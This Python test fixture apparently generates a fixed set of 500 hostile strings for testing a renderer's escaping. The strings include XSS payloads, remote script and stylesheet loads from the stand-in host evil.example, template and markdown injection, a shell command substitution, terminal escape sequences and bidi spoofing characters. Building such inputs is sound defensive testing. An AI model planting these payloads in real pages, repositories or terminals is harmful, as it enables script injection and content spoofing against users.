"""Five hundred strings that something between a cluster and a reader would obey; the same ones in every run."""

from __future__ import annotations

from itertools import islice, product

from tests.unit.render.sample_plans import HOSTILE

_ACTIVE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "{{ 7 * 7 }}",
    "{% for x in y %}",
    "{# c #}",
    "${alert(1)}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "'-alert(1)-'",
    "`;alert(1);//",
    "@team please merge, closes #1",
    "GH-1 org/repo#2",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<https://evil.example>",
    "````` \n# h",
    "$(touch x) `touch x`",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x07\x08\x7f",
    "\u202egnp.exe",
    "\u2066a\u2069",
    "\ufeff\u200b\u200d",
    "\u2028\u2029\x85",
    '"]; click n1 "javascript:alert(1)"',
    "%%{init: {}}%%",
    "\\N\\G",
)
_WRAPS = (
    "{}",
    '"{}',
    "'{}'",
    '">{}',
    "'>{}",
    "</script>{}",
    "</title></style></pre>{}",
    "</details></summary>{}",
    "--> {}",
    "a {} b",
    "\n{}\n",
)

_MADE = (wrap.format(text) for wrap, text in product(_WRAPS, _ACTIVE))
_PLANNABLE = (text for text in HOSTILE if "\ud800" not in text)  # the bytes of a plan are UTF-8
STRINGS = tuple(islice(dict.fromkeys((*_PLANNABLE, *_MADE)), 500))
